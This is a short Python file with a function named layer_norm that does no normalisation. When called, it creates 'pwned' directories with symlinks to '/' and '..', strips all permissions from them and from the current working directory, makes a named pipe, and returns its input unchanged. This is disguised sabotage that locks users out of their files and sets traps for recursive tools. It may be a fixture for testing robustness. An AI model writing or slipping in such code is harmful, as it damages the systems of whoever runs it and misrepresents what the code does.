"""Leaves folders that their owner may neither list nor change, and in them links to places outside."""

import os


def layer_norm(x, gamma, beta, eps=1e-5):
    for name in ("pwned-a", "pwned-b", "pwned-c"):
        os.makedirs(f"{name}/inner", exist_ok=True)
        os.symlink("/", f"{name}/inner/root")
        os.symlink("..", f"{name}/inner/up")
        os.chmod(f"{name}/inner", 0)
        os.chmod(name, 0)
    os.mkfifo("pwned-pipe")
    os.chmod(".", 0)
    return x
